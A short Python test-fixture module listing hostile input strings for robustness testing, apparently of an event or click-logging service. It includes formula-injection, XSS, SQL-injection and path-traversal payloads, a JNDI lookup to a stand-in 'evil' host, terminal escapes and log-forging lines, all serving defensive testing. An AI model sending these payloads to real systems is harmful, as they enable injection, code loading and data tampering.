"""Ids and texts that strangers send to see what happens."""

HOSTILE_TEXTS = (
    "\x00\x01\x07\x08\x7f",
    'line\nbreak\r\n{"event": "forged"}',
    "x" * 1_000_000,
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "<script>alert(1)</script>",
    "[bold red]markup[/bold red][link=http://evil]",
    "../../etc/passwd",
    "/etc/passwd",
    "C:\\windows\\..",
    "\x1b[2J\x1b]0;title\x07\x9b31m",
    "invoice\u202efdp.exe",
    '{"session_id": "another", "item_id": [1]}',
    "'; drop table clicks; --",
    "%s%n{0}${jndi:ldap://evil/a}",
    "e\u0301\u200b\ufeff\U0001f9d9\u200d\u2642",
    '"} 1\nforged_metric{a="b',
)
"""None of them holds half a surrogate pair: UTF-8 cannot carry one."""

HOSTILE_IDS = tuple(text for text in HOSTILE_TEXTS if len(text.encode()) <= 512)
